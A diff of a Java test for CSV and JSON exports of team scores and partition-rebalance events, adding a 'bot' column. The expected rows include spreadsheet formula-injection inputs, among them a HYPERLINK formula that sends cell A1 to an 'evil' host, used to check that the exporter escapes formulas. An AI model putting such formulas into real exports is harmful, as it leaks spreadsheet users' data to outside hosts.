@@ -51,9 +51,9 @@ class ExportTest {
                         + "NOT_YET,MALFORMED_JSON,MISSING_FIELD:customer,MISSING_FIELD:type,MISSING_FIELD:reason,"
                         + "MISSING_FIELD:team,BAD_FIELD:customer,BAD_FIELD:type,BAD_FIELD:reason,BAD_FIELD:team,"
                         + "NOT_YOURS,TOO_LARGE,NEW_CODE,expected,missed,precision,recall,f1,forgotten,unread,"
-                        + "unconfirmed_since_utc,unconfirmed_since_ms\r\n"
-                        + "team-1,1,1,33,4,7,0,0,1,0,0,0,0,0,2,0,0,0,0,0,0,0,4,40,10,0.825,0.75,0.7857,9,8,,\r\n"
-                        + "team-2,2,2,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,,,,,,0,0,,\r\n");
+                        + "unconfirmed_since_utc,unconfirmed_since_ms,bot\r\n"
+                        + "team-1,1,1,33,4,7,0,0,1,0,0,0,0,0,2,0,0,0,0,0,0,0,4,40,10,0.825,0.75,0.7857,9,8,,,no\r\n"
+                        + "team-2,2,2,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,,,,,,0,0,,,yes\r\n");
     }
 
     @Test
@@ -78,11 +78,11 @@ class ExportTest {
         assertThat(lines)
                 .containsExactly(
                         "group,id,started_at_utc,started_at_ms,completed_at_utc,completed_at_ms,duration_ms,error_ms,"
-                                + "precision,cause,cause_precision,culprits,from_epoch,to_epoch,moved,moves,handed_over,"
-                                + "at_risk,redelivered,acted_twice,detail,sentence",
+                            + "precision,cause,cause_precision,culprits,from_epoch,to_epoch,moved,moves,handed_over,"
+                            + "at_risk,redelivered,acted_twice,detail,sentence",
                         "team-1,4-2800,1970-01-01T00:00:01.000Z,1000,1970-01-01T00:00:02.800Z,2800,1800,0,exact,UNKNOWN,exact,'=1+1,3,4,1,users-4:"
-                                + " m-b to =1+1,users-4,12,,,'-1,\"A member made the group rebalance for an unknown"
-                                + " reason, so partition 4 moved from a member to a member. It took 1.8 s.\"",
+                            + " m-b to =1+1,users-4,12,,,'-1,\"A member made the group rebalance for an unknown"
+                            + " reason, so partition 4 moved from a member to a member. It took 1.8 s.\"",
                         "team-1,4-2800,1970-01-01T00:00:01.000Z,1000,1970-01-01T00:00:02.800Z,2800,1800,0,exact,"
                                 + "MEMBER_JOINED,exact,\"C (=HYPERLINK(\"\"http://evil/\"\"&A1))\",3,4,0,,users-4,12,,,"
                                 + "\"'+cmd, \"\"now\"\"\",\"C joined, and no partition moved. It took 1.8 s.\"");
@@ -103,7 +103,7 @@ class ExportTest {
                         + "\"wrong\":7,\"missed\":10,\"precision\":0.825,\"recall\":0.75,\"f1\":0.7857,\"wrongByCode\":"
                         + "{\"MISSING_FIELD:reason\":2,\"NEW_CODE\":4,\"NO_MATCH\":1},\"expected\":40,"
                         + "\"firstMissed\":[{\"partition\":0,\"offset\":118}]},\"forgotten\":9,\"unread\":8,"
-                        + "\"scoreUnconfirmedSince\":null}");
+                        + "\"scoreUnconfirmedSince\":null,\"bot\":false}");
         assertThat(results.at("/steps/1"))
                 .hasToString("{\"team\":\"team-1\",\"step\":\"FIRST_LOAD\",\"at\":2000,"
                         + "\"time\":\"1970-01-01T00:00:02.000Z\"}");
